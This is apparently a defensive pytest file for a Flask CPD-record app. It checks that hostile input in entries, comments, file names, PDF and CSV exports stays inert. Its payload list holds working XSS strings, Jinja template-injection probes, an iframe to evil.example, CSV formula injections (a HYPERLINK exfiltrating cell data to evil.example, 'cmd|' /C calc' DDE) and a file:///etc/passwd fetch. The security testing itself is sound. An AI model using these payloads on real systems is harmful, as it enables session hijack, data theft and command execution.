"""Hostile text in CPD entries, comments and file names is shown as text, everywhere it is shown.

Each payload goes into every text field of an entry (through the forms, as a person would type
it), a comment and an evidence file name; then every page, the PDF and the CSV that show them
are checked: no element, attribute or script comes from the payload, templates are not
evaluated, the PDF fetches nothing, and spreadsheet formulas are neutralised.
"""

from __future__ import annotations

import csv
import io
import re
import secrets
import socket
from pathlib import PurePosixPath
from urllib.parse import quote

import pypdf
import pytest
from bs4 import BeautifulSoup
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from tests.cpd.record_pdf import ask_for_record_pdf
from tests.factories import NOW
from tests.helpers import Page, csrf_token, form_values, page, sign_in, submit
from wfld.core import clock, pdf
from wfld.core.csvfile import FORMULA_STARTS, csv_safe
from wfld.core.text import clean_text
from wfld.cpd import confidentiality
from wfld.cpd.models import CpdComment, CpdEntry, CpdEvidence
from wfld.extensions import db

LONG = ('"><img src=x onerror=alert(1)><script>alert(1)</script>' * 200)[:9000]

PAYLOADS = [
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param('"><img src=x onerror=alert(1)>', id="attribute-break"),
    pytest.param("' onmouseover='alert(1)' x='", id="single-quote-break"),
    pytest.param("javascript:alert(1)", id="javascript-url"),
    pytest.param("<svg/onload=alert(1)>", id="svg-onload"),
    pytest.param("</textarea><script>alert(1)</script>", id="textarea-break"),
    pytest.param("</title><script>alert(1)</script>", id="title-break"),
    pytest.param("{{7*7}}", id="jinja-expression"),
    pytest.param("{{ config }} {{ self.__init__.__globals__ }}", id="jinja-config"),
    pytest.param("{% for x in range(3) %}loop{% endfor %}{# hidden #}", id="jinja-statement"),
    pytest.param("<iframe src=//evil.example></iframe>", id="iframe"),
    pytest.param('<a href="javascript:alert(1)">click me</a>', id="javascript-link"),
    pytest.param("</style><script>alert(1)</script><style>", id="style-break"),
    pytest.param(
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        id="mutation",
    ),
    pytest.param("report\u202egnp.exe and \u200bzero\u200dwidth \u2066isolate\u2069", id="bidi"),
    pytest.param(LONG, id="very-long"),
    pytest.param("&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;", id="pre-escaped"),
    pytest.param("before\x00<script>alert(1)</script>after", id="null-byte"),
    pytest.param(
        '<img src="http://127.0.0.1:9/x"><link rel=stylesheet href=//127.0.0.1:9/>', id="fetch"
    ),
    pytest.param(
        '<script>alert(1)</script> DOB 03/04/2015 "><img src=x onerror=alert(1)>',
        id="needs-confidentiality-check",
    ),
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"Click me")', id="csv-formula-equals"),
    pytest.param("+cmd|' /C calc'!A0", id="csv-formula-plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="csv-formula-minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="csv-formula-at"),
]

# The only script any page loads: the app's own module, from our static folder (base.html).
APP_SCRIPT = "/static/dist/app.js"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"}
NEVER = ("iframe", "frame", "object", "embed", "img", "style", "base", "math", "template")


@pytest.fixture(autouse=True)
def frozen_clock():  # noqa: ANN201
    clock.freeze(NOW)
    yield
    clock.freeze(None)


def _client(app: Flask, email: str) -> FlaskClient:
    client = app.test_client()
    assert sign_in(client, email).status_code == 302
    return client


def _stored(payload: str, limit: int, *, single_line: bool = False) -> str:
    """What is kept of a payload typed into a field of ``limit`` characters: the forms'
    cleaning (control characters; in one-line fields bidi controls too), then the service's."""
    return clean_text(payload[:limit], single_line=single_line).replace("\r\n", "\n").strip()


def _fields(payload: str) -> dict[str, str]:
    return {
        "title": _stored(payload, 200, single_line=True),
        "description": _stored(payload, 10_000),
        "learning": _stored(payload, 10_000),
        "impact": _stored(payload, 10_000),
        "peer_reflection": _stored(payload, 10_000),
        "peer_role": _stored(payload, 120, single_line=True),
    }


def _typed(payload: str) -> dict[str, object]:
    """The entry form as the person fills it in, with the payload in every text field."""
    return {
        "title": payload[:200],
        "started_on": ["14", "10", "2026"],
        "ended_on": ["", "", ""],
        "activity_type": "peer_discussion",
        "hours": "2",
        "description": payload,
        "learning": payload,
        "impact": payload,
        "peer_reflection": payload,
        "peer_role": payload[:120],
        "share": "y",
        "save_complete": "y",
    }


def _save(client: FlaskClient, path: str, data: dict[str, object]):  # noqa: ANN202
    """Post the entry form; if the confidentiality check asks, confirm what it showed."""
    response = submit(client, path, data)
    if response.status_code == 200 and b'id="confidentiality"' in response.data:
        warned = assert_safe(response, "the confidentiality warning")
        assert warned.soup.select("#confidentiality mark.app-finding"), warned.error_summary()
        digest = warned.soup.find("input", attrs={"name": "shown_digest"})["value"]
        response = submit(client, path, {**data, "confirm_checked": "y", "shown_digest": digest})
    assert response.status_code == 302, page(response).error_summary()
    return response


def _upload(client: FlaskClient, entry_id: int, content: bytes, name: str):  # noqa: ANN202
    """Upload a file as a browser does, its name encoded (RFC 7578 allows filename*), so that
    quotes and line breaks in the name reach the app as they are."""
    boundary = "wfld-" + secrets.token_hex(12)
    token = csrf_token(client, f"/cpd/entries/{entry_id}")
    body = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="csrf_token"\r\n\r\n'
            f"{token}\r\n"
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="file"; '
            f"filename*=UTF-8''{quote(name, safe='')}\r\n"
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return client.post(
        f"/cpd/entries/{entry_id}/evidence",
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def _kept_name(name: str) -> str:
    """The file name the app keeps: the last part of the path, without control characters
    or bidi controls."""
    last = PurePosixPath(name).name
    return clean_text(last, single_line=True).strip()[-200:] or "upload"


def _norm(text: str) -> str:
    return " ".join(text.split())


def assert_safe(response, where: str) -> Page:  # noqa: ANN001
    """Nothing on the page came from the payload: elements, attributes, scripts and URLs are
    all the app's own. (``page`` also refuses any inline script.)"""
    assert response.status_code == 200, where
    result = page(response)
    soup = result.soup
    scripts = [s.get("src") for s in soup.find_all("script")]
    assert scripts == [APP_SCRIPT], f"{where}: scripts {scripts}"
    for name in NEVER:
        assert soup.find(name) is None, f"{where}: a <{name}> element"
    for svg in soup.find_all("svg"):  # only the coverage charts on My CPD
        assert "app-coverage" in svg.get("class", []), f"{where}: an <svg> from the text"
        assert svg.find(["script", "foreignobject", "a", "use"]) is None, where
    for meta in soup.find_all("meta"):
        assert not meta.has_attr("http-equiv"), f"{where}: {meta}"
    for link in soup.find_all("link"):
        assert link["href"].startswith("/static/"), f"{where}: {link}"
    for tag in soup.find_all(True):
        for attribute, value in tag.attrs.items():
            assert not attribute.lower().startswith("on"), f"{where}: <{tag.name} {attribute}>"
            if attribute.lower() not in URL_ATTRIBUTES:
                continue
            url = re.sub(r"[\x00-\x20]", "", " ".join(value) if isinstance(value, list) else value)
            assert not re.match(r"(?i)(javascript|vbscript|data):", url), f"{where}: {tag}"
            assert url.startswith(("/", "#")) and not url.startswith("//"), f"{where}: {tag}"
    return result


def _text_of(element) -> str:  # noqa: ANN001
    return element.get_text() if element is not None else ""


def _written(result: Page) -> list[str]:
    """The person's own words as the page shows them (the app-written blocks)."""
    return [element.get_text() for element in result.soup.select(".app-written")]


def _summary_value(result: Page, key: str) -> str:
    for row in result.soup.select(".govuk-summary-list__row"):
        if _norm(row.select_one(".govuk-summary-list__key").get_text()) == key:
            return row.select_one(".govuk-summary-list__value").get_text().strip()
    raise AssertionError(f"no row {key!r}")


# What each page of the record repeats in its margins (compared without white space).
MARGINS = re.compile(
    r"Page\d+of\d+|CPDrecord,thelasttwoyears|PriyaSandhu·SocialWorkEngland"
    r"registrationSW\d+"
)


def _pdf_text(data: bytes) -> str:
    """The text of the PDF without white space or the page margins, so that text running
    over a page break reads on."""
    reader = pypdf.PdfReader(io.BytesIO(data))
    return "".join(MARGINS.sub("", "".join((p.extract_text() or "").split())) for p in reader.pages)


def _squash(text: str) -> str:
    """Text as compared with the PDF's: no white space, and without the invisible characters
    a PDF does not keep as text (bidi controls and zero-width characters)."""
    invisible = "\u200b\u200c\u200d\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u202e"
    return "".join(c for c in "".join(text.split()) if c not in invisible)


def _csv_cell(text: str) -> str:
    return csv_safe(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_only_ever_text(app, org, payload):  # noqa: PLR0915 - one journey
    fields = _fields(payload)
    owner = _client(app, org.practitioner.email)

    # Written, then changed (so that the first text becomes an earlier version).
    entry_id = int(
        _save(owner, "/cpd/entries/new", _typed(payload)).headers["Location"].rsplit("/", 1)[1]
    )
    edit_path = f"/cpd/entries/{entry_id}/edit"
    edit_form = assert_safe(owner.get(edit_path), "the edit form")
    assert edit_form.soup.find("input", attrs={"name": "title"})["value"] == fields["title"]
    peer_role = edit_form.soup.find("input", attrs={"name": "peer_role"})
    assert peer_role["value"] == fields["peer_role"]
    for name in ("description", "learning", "impact", "peer_reflection"):
        textarea = edit_form.soup.find("textarea", attrs={"name": name})
        assert textarea.get_text().removeprefix("\n") == fields[name], name
    changed = {k: v[0] if len(v) == 1 else v for k, v in form_values(owner.get(edit_path)).items()}
    changed.update({"impact": "Changed: " + payload, "save_complete": "y"})
    _save(owner, edit_path, changed)
    with app.app_context():
        entry = db.session.get(CpdEntry, entry_id)
        for name, value in fields.items():
            expected = _stored("Changed: " + payload, 10_000) if name == "impact" else value
            assert getattr(entry, name) == expected, f"{name} is kept exactly as typed"
        assert entry.shared is True
        flagged = bool(confidentiality.scan(fields))
        assert (entry.confidentiality_checked_at is not None) is flagged
        assert [v.impact for v in entry.versions] == [fields["impact"]]

    # The same text, refused: the form shows it again as typed (an HTML parser drops a NUL).
    refused = assert_safe(
        submit(owner, edit_path, {**changed, "title": ""}), "the edit form with an error"
    )
    assert refused.error_summary() == {"#title": "Enter a title"}
    shown_again = refused.soup.find("textarea", attrs={"name": "learning"}).get_text()
    assert shown_again.removeprefix("\n") == clean_text(payload)

    # A file named with the payload: we keep its last part, without control characters.
    assert _upload(owner, entry_id, b"Notes from supervision.", payload).status_code == 302
    with app.app_context():
        evidence = db.session.scalars(select(CpdEvidence)).one()
        file_name, evidence_id = evidence.original_name, evidence.id
    assert file_name == _kept_name(payload)

    # The line manager comments with the payload.
    manager = _client(app, org.line_manager.email)
    comment = _stored(payload, 5000)
    posted = submit(
        manager,
        f"/cpd/entries/{entry_id}/comments",
        {"body": payload[:5000]},
        form_path=f"/cpd/entries/{entry_id}",
    )
    assert posted.status_code == 302
    with app.app_context():
        assert db.session.scalars(select(CpdComment.body)).one() == comment

    # Every page that shows the text, as the owner.
    mine = assert_safe(owner.get("/cpd/me?year=all"), "My CPD")
    assert fields["title"] in [
        a.get_text() for a in mine.soup.select(f"a[href='/cpd/entries/{entry_id}']")
    ]

    entry_page = assert_safe(owner.get(f"/cpd/entries/{entry_id}"), "the entry")
    assert entry_page.soup.h1.get_text() == fields["title"]
    assert entry_page.title.startswith(_norm(fields["title"]))
    assert _written(entry_page) == [
        fields["description"],
        fields["learning"],
        _stored("Changed: " + payload, 10_000),
        fields["peer_reflection"],
        comment,
    ]
    assert _summary_value(entry_page, "Discussed with") == fields["peer_role"].strip()
    download = entry_page.soup.select_one(f"a[href='/cpd/evidence/{evidence_id}']")
    assert download.get_text() == file_name

    versions = assert_safe(owner.get(f"/cpd/entries/{entry_id}/versions"), "earlier versions")
    assert _written(versions) == [
        fields["description"],
        fields["learning"],
        fields["impact"],
        fields["peer_reflection"],
    ]

    remove = assert_safe(owner.get(f"/cpd/evidence/{evidence_id}/remove"), "remove a file")
    assert file_name in remove.soup.get_text()

    swe = assert_safe(owner.get("/cpd/me/social-work-england"), "Copy for Social Work England")
    assert f"Piece 1: {fields['title']}" in [h.get_text() for h in swe.soup.select("main h2")]
    assert _written(swe)[1:3] == [fields["learning"], _stored("Changed: " + payload, 10_000)]

    # As the line manager.
    shared = assert_safe(manager.get("/cpd/shared"), "CPD shared with you")
    assert fields["title"] in [
        a.get_text() for a in shared.soup.select(f"a[href='/cpd/entries/{entry_id}']")
    ]
    seen = assert_safe(manager.get(f"/cpd/entries/{entry_id}"), "the entry, as the manager")
    assert seen.soup.h1.get_text() == fields["title"]
    assert comment in _written(seen)
    assert_safe(manager.get(f"/cpd/entries/{entry_id}/versions"), "versions, as the manager")
    readiness = assert_safe(manager.get("/cpd/readiness?show=all"), "readiness")
    assert "Priya Sandhu" in readiness.text()
    if len(fields["title"]) > 3:
        assert fields["title"] not in readiness.soup.get_text(), "counts, never the words"


def _in_pdf(payload: str) -> str:
    """What the PDF's text should read for a payload typed into a field."""
    if "\u202e" in payload:
        # A right-to-left override reverses the rest of its line when it is drawn (Unicode's
        # bidirectional algorithm); text extraction reads the glyphs in the order drawn.
        return "reportisolatehtdiworezdnaexe.png"
    return _squash(_fields(payload)["learning"])


PDF_PAYLOADS = [
    pytest.param(p.values[0], _in_pdf(p.values[0]), id=p.id)
    for p in PAYLOADS
    if p.id
    in {
        "script",
        "jinja-expression",
        "jinja-config",
        "jinja-statement",
        "fetch",
        "bidi",
        "null-byte",
        "very-long",
        "pre-escaped",
        "mutation",
        "style-break",
        "csv-formula-equals",
    }
]


@pytest.mark.parametrize(("payload", "shown"), PDF_PAYLOADS)
def test_the_pdf_shows_hostile_text_literally_and_fetches_nothing(
    app, org, payload, shown, monkeypatch
):
    asked: list[str] = []
    refuse = pdf._RefuseEverything.fetch

    def spy(self, url, headers=None):  # noqa: ANN001, ANN202
        asked.append(url)
        return refuse(self, url, headers)

    monkeypatch.setattr(pdf._RefuseEverything, "fetch", spy)
    owner = _client(app, org.practitioner.email)
    _save(owner, "/cpd/entries/new", _typed(payload))
    response = ask_for_record_pdf(owner)
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    text = _pdf_text(response.data)
    assert text.count(shown) >= 4, "in the description, learning, impact and peer reflection"
    assert "SECRET_KEY" not in text
    assert asked == [], "the record asks for nothing"


def test_html_given_to_the_pdf_renderer_fetches_nothing():
    """Even markup that asks for images, stylesheets and local files makes no request."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        port = listener.getsockname()[1]
        html = (
            "<!DOCTYPE html><html><head>"
            f'<link rel="stylesheet" href="http://127.0.0.1:{port}/style.css">'
            f"<style>@import url(http://127.0.0.1:{port}/import.css);"
            f"body {{ background: url(http://127.0.0.1:{port}/bg.png) }}</style></head><body>"
            f'<p>Visible text</p><img src="http://127.0.0.1:{port}/x.png">'
            '<img src="file:///etc/passwd"><object data="file:///etc/hostname"></object>'
            "</body></html>"
        )
        data = pdf.render_pdf(html)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert data.startswith(b"%PDF-")
    assert "Visibletext" in _pdf_text(data)
    assert "root:" not in _pdf_text(data)


def test_the_csv_neutralises_formulas_in_every_text_column(app, org):
    owner = _client(app, org.practitioner.email)
    formulas = [p.values[0] for p in PAYLOADS if p.id.startswith("csv-formula")]
    for payload in formulas:
        _save(owner, "/cpd/entries/new", _typed(payload))
        entry_id = max(_entry_ids(app))
        assert _upload(owner, entry_id, b"notes", payload).status_code == 302
    response = owner.get("/cpd/me/record.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 1 + len(formulas)
    header = rows[0]
    for payload, row in zip(formulas, rows[1:], strict=True):
        cells = dict(zip(header, row, strict=True))
        fields = _fields(payload)
        assert cells["Title"] == _csv_cell(fields["title"])
        assert cells["What I learnt"] == _csv_cell(fields["learning"])
        assert cells["Peer reflection"] == _csv_cell(fields["peer_reflection"])
        assert cells["Discussed with (role)"] == _csv_cell(fields["peer_role"])
        assert cells["Evidence files"] == _csv_cell(_kept_name(payload))
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, cell


def _entry_ids(app: Flask) -> list[int]:
    with app.app_context():
        return list(db.session.scalars(select(CpdEntry.id)))


def test_the_soup_checks_catch_injected_markup():
    """The checks above would fail if a payload ever became markup."""

    class Response:
        status_code = 200
        mimetype = "text/html"

        def __init__(self, body: str) -> None:
            self.data = (
                "<html><head><title>t</title></head><body><h1>x</h1>"
                + body
                + f'<script type="module" src="{APP_SCRIPT}"></script></body></html>'
            ).encode()

    assert_safe(Response("<p>&lt;script&gt;</p>"), "plain")
    for injected in (
        '<img src="x">',
        '<p onclick="x()">a</p>',
        '<a href="javascript:alert(1)">a</a>',
        '<a href=" JaVaScRiPt:alert(1)">a</a>',
        "<iframe src=//evil></iframe>",
        "<svg onload=alert(1)></svg>",
        '<a href="//evil.example">a</a>',
        '<script src="//evil.example/x.js"></script>',
    ):
        with pytest.raises(AssertionError):
            assert_safe(Response(injected), injected)
    assert BeautifulSoup("<p>{{7*7}}</p>", "html.parser").p.get_text() == "{{7*7}}"
